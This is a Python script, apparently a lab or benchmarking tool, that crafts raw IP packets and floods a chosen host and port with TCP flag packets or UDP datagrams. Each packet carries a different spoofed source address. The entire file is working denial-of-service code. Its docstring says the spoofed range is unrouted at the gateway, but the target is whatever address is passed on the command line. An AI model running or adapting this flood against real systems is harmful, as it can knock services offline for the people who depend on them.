#!/usr/bin/env python3
"""A TCP flood with spoofed sources: COUNT packets with FLAGS (S, A, R, F) to
DST:DPORT, each from a different source 198.19.X.Y:port (the benchmarking
range, unrouted at the gateway; X starts at BASE, default 0, so floods can
use distinct sources), through a raw socket with IP_HDRINCL. FLAGS U: a UDP
flood the same way (one 16-byte datagram from each source).
Usage: DST DPORT COUNT [FLAGS] [BASE]. Prints the number sent."""
import socket
import struct
import sys

dst, dport, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
flags = sys.argv[4] if len(sys.argv) > 4 else "S"
base = int(sys.argv[5]) if len(sys.argv) > 5 else 0
udp = flags == "U"
bits = 0 if udp else sum({"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}[c] for c in flags)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dip = socket.inet_aton(dst)
for i in range(count):
    sip = bytes([198, 19, (base + (i >> 8)) & 0xFF, i & 0xFF])
    sport = 1024 + (i * 7919) % 60000
    if udp:
        proto, at, payload = 17, 6, b"flood datagram.."
        l4 = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    else:
        proto, at = 6, 16
        l4 = struct.pack("!HHIIBBHHH", sport, dport, i, 0, 5 << 4, bits, 65535, 0, 0)
    c = csum(struct.pack("!4s4sBBH", sip, dip, 0, proto, len(l4)) + l4)
    l4 = l4[:at] + struct.pack("!H", c) + l4[at + 2 :]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), i & 0xFFFF, 0, 64, proto, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    sock.sendto(ip + l4, (dst, 0))
print(count)
